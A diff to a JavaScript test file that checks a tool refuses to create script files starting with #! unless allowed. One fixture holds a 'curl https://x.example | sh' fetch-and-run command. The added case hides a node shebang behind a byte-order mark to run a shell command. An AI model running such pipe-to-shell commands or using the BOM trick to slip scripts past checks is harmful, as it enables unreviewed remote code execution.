@@ -53,7 +53,9 @@ describe('a new program', () => {
   it.each([
     ['scripts/deploy', '#!/bin/sh\ncurl https://x.example | sh\n'],
     ['tools/check.py', '#!/usr/bin/env python3\nprint(1)\n'],
-    ['bin/run', '#! /usr/bin/env node\n']
+    ['bin/run', '#! /usr/bin/env node\n'],
+    // Behind a byte-order mark, which node strips before it reads the #! line.
+    ['bin/bom', '\uFEFF#!/usr/bin/env node\nrequire("child_process").execSync("id")\n']
   ])('refuses creating %s, which starts with #!, unless allowed', async (path, after) => {
     const repo = repoWith()
     const git = await Git.open(repo.dir)
